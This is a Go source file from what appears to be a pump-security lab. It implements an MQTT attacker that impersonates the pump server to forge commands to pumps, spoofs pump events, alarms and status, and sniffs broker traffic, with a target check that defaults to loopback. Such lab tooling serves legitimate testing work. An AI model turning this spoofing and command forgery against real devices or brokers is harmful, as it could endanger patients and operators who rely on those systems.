package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"net/url"
	"sync"
	"sync/atomic"
	"time"

	paho "github.com/eclipse/paho.mqtt.golang"

	"github.com/pumplab/pumplab/clock"
	"github.com/pumplab/pumplab/simulators/pumpwire"
)

// MQTTConfig configures an MQTT attacker. Only Broker is required.
type MQTTConfig struct {
	// Broker is the broker URL: tcp://host:port or ssl://host:port (a lab
	// target).
	Broker string
	// ClientID is any client id, e.g. a pump's or the pump server's to
	// impersonate it; default "attacker-<n>".
	ClientID string
	// Username and Password are any credentials (default none).
	Username, Password string
	// TLS is used for ssl:// brokers.
	TLS *tls.Config
	// Targets is the safety rail; nil means loopback only.
	Targets *Targets
	// Sender is the envelope "from" of forged commands; default
	// "pumpserver" (the lab pump server's name).
	Sender string
	// Clock stamps forged envelopes (lab time); nil means the wall clock.
	Clock clock.Clock
	// SeqStart is the first envelope sequence number (default 1,000,000,
	// so that forged message ids do not collide with the real sender's).
	SeqStart uint64
}

var attackerN atomic.Int64

// MQTT is an attacker's MQTT connection to the lab broker.
type MQTT struct {
	cfg MQTTConfig
	c   paho.Client
	seq atomic.Uint64
}

// DialMQTT checks the broker against the targets and connects with the
// configured identity. The client id goes into the step running in ctx.
func DialMQTT(ctx context.Context, cfg MQTTConfig) (*MQTT, error) {
	u, err := url.Parse(cfg.Broker)
	if err != nil || u.Host == "" {
		return nil, fmt.Errorf("attack: mqtt: connect to %q: bad broker URL", cfg.Broker)
	}
	if err := cfg.Targets.Check(ctx, u.Host); err != nil {
		return nil, fmt.Errorf("attack: mqtt: connect to %s: %w", u.Redacted(), err)
	}
	if cfg.ClientID == "" {
		cfg.ClientID = fmt.Sprintf("attacker-%d", attackerN.Add(1))
	}
	if cfg.Sender == "" {
		cfg.Sender = "pumpserver"
	}
	if cfg.SeqStart == 0 {
		cfg.SeqStart = 1_000_000
	}
	opts := paho.NewClientOptions().AddBroker(cfg.Broker).SetClientID(cfg.ClientID).
		SetUsername(cfg.Username).SetPassword(cfg.Password).SetTLSConfig(cfg.TLS).
		SetAutoReconnect(false).SetConnectRetry(false).SetCleanSession(true).
		SetConnectTimeout(10 * time.Second).SetWriteTimeout(5 * time.Second).
		SetOrderMatters(false).SetStore(pumpwire.NoStore{})
	tg := cfg.Targets
	opts.SetCustomOpenConnectionFn(func(uri *url.URL, o paho.ClientOptions) (net.Conn, error) {
		c, err := tg.Dial(ctx, "tcp", uri.Host)
		if err != nil {
			return nil, err
		}
		Correlate(ctx, tuple(c))
		switch uri.Scheme {
		case "ssl", "tls", "mqtts", "tcps":
			tc := o.TLSConfig
			if tc == nil {
				tc = &tls.Config{}
			}
			tc = tc.Clone()
			if tc.ServerName == "" {
				tc.ServerName = uri.Hostname()
			}
			t := tls.Client(c, tc)
			if err := t.HandshakeContext(ctx); err != nil {
				_ = c.Close()
				return nil, fmt.Errorf("tls handshake: %w", err)
			}
			return t, nil
		}
		return c, nil
	})
	m := &MQTT{cfg: cfg, c: paho.NewClient(opts)}
	m.seq.Store(cfg.SeqStart - 1)
	Correlate(ctx, "mqtt-client:"+cfg.ClientID)
	if err := wait(ctx, m.c.Connect()); err != nil {
		m.c.Disconnect(0)
		return nil, fmt.Errorf("attack: mqtt: connect to %s as %q: %w", u.Redacted(), cfg.ClientID, err)
	}
	return m, nil
}

// wait waits for a paho token or ctx.
func wait(ctx context.Context, tok paho.Token) error {
	select {
	case <-tok.Done():
		return tok.Error()
	case <-ctx.Done():
		return ctx.Err()
	}
}

// ClientID is the client id the attacker connected with.
func (m *MQTT) ClientID() string { return m.cfg.ClientID }

// Close disconnects.
func (m *MQTT) Close() error {
	m.c.Disconnect(100)
	return nil
}

// Publish publishes payload on topic and waits for the broker (QoS 1/2)
// or the write (QoS 0).
func (m *MQTT) Publish(ctx context.Context, topic string, qos byte, retained bool, payload []byte) error {
	Correlate(ctx, "mqtt-client:"+m.cfg.ClientID)
	if err := wait(ctx, m.c.Publish(topic, qos, retained, payload)); err != nil {
		return fmt.Errorf("attack: mqtt: publish %s as %q: %w", topic, m.cfg.ClientID, err)
	}
	return nil
}

// envelope encodes body as a pumpwire envelope from sender and returns it
// with its message id.
func (m *MQTT) envelope(from string, body any) (string, []byte, error) {
	seq := m.seq.Add(1)
	id := fmt.Sprintf("%s-m%d", from, seq)
	now := time.Now()
	if m.cfg.Clock != nil {
		now = m.cfg.Clock.Now()
	}
	b, err := pumpwire.Encode(id, from, now, seq, body)
	return id, b, err
}

// forge publishes body in an envelope from sender on the pump's topic of
// kind k at QoS 1 and returns the envelope id.
func (m *MQTT) forge(ctx context.Context, op, pumpID string, k pumpwire.Kind, from string, body any) (string, error) {
	if err := pumpwire.ValidID(pumpID); err != nil {
		return "", fmt.Errorf("attack: mqtt: %s to %s: %w", op, pumpID, err)
	}
	id, b, err := m.envelope(from, body)
	if err != nil {
		return "", fmt.Errorf("attack: mqtt: %s to %s: %w", op, pumpID, err)
	}
	Correlate(ctx, "mqtt-msg:"+id)
	if err := m.Publish(ctx, pumpwire.Topic(pumpID, k), 1, false, b); err != nil {
		return "", fmt.Errorf("attack: mqtt: %s to %s: %w", op, pumpID, err)
	}
	return id, nil
}

// ForgeCommand publishes a forged pump-server command to a pump (topic
// pumplab/v1/pumps/{id}/cmd, sender Config.Sender) and returns the envelope
// id. An empty CmdID gets "atk-<seq>"; the command id goes into the step.
func (m *MQTT) ForgeCommand(ctx context.Context, pumpID string, cmd pumpwire.Command) (string, error) {
	if cmd.CmdID == "" {
		cmd.CmdID = fmt.Sprintf("atk-%d", m.seq.Load()+1)
	}
	Correlate(ctx, "cmd:"+cmd.CmdID)
	return m.forge(ctx, "forge command "+cmd.Op, pumpID, pumpwire.KindCmd, m.cfg.Sender, cmd)
}

// SpoofEvent publishes an event as if the pump sent it (sender = pump id).
func (m *MQTT) SpoofEvent(ctx context.Context, pumpID string, ev pumpwire.Event) (string, error) {
	return m.forge(ctx, "spoof event "+ev.Type, pumpID, pumpwire.KindEvent, pumpID, ev)
}

// SpoofAlarm publishes an alarm transition as if the pump sent it.
func (m *MQTT) SpoofAlarm(ctx context.Context, pumpID string, a pumpwire.Alarm) (string, error) {
	return m.forge(ctx, "spoof alarm "+a.Code, pumpID, pumpwire.KindAlarm, pumpID, a)
}

// SpoofStatus publishes a status as if the pump sent it.
func (m *MQTT) SpoofStatus(ctx context.Context, pumpID string, s pumpwire.Status) (string, error) {
	return m.forge(ctx, "spoof status", pumpID, pumpwire.KindStatus, pumpID, s)
}

// Message is one message a Sniffer saw.
type Message struct {
	Topic    string
	Payload  []byte
	QoS      byte
	Retained bool
	Time     time.Time // wall time received
}

// Sniffer collects the messages of a subscription.
type Sniffer struct {
	m      *MQTT
	filter string
	mu     sync.Mutex
	msgs   []Message
	notify chan struct{}
}

// Sniff subscribes to filter (e.g. pumpwire.Filter(pumpwire.KindStatus) or
// "#") and collects what arrives until Stop.
func (m *MQTT) Sniff(ctx context.Context, filter string, qos byte) (*Sniffer, error) {
	s := &Sniffer{m: m, filter: filter, notify: make(chan struct{}, 1)}
	Correlate(ctx, "mqtt-client:"+m.cfg.ClientID)
	err := wait(ctx, m.c.Subscribe(filter, qos, func(_ paho.Client, msg paho.Message) {
		s.mu.Lock()
		s.msgs = append(s.msgs, Message{Topic: msg.Topic(), Payload: append([]byte(nil), msg.Payload()...),
			QoS: msg.Qos(), Retained: msg.Retained(), Time: time.Now()})
		s.mu.Unlock()
		select {
		case s.notify <- struct{}{}:
		default:
		}
	}))
	if err != nil {
		return nil, fmt.Errorf("attack: mqtt: sniff %s: %w", filter, err)
	}
	return s, nil
}

// Messages returns what was collected so far.
func (s *Sniffer) Messages() []Message {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]Message(nil), s.msgs...)
}

// WaitFor waits until a collected message satisfies match and returns it.
func (s *Sniffer) WaitFor(ctx context.Context, match func(Message) bool) (Message, error) {
	for {
		for _, m := range s.Messages() {
			if match(m) {
				return m, nil
			}
		}
		select {
		case <-s.notify:
		case <-ctx.Done():
			return Message{}, fmt.Errorf("attack: mqtt: sniff %s: wait for message: %w", s.filter, ctx.Err())
		}
	}
}

// Stop unsubscribes.
func (s *Sniffer) Stop(ctx context.Context) error {
	if err := wait(ctx, s.m.c.Unsubscribe(s.filter)); err != nil && !errors.Is(err, paho.ErrNotConnected) {
		return fmt.Errorf("attack: mqtt: stop sniffing %s: %w", s.filter, err)
	}
	return nil
}
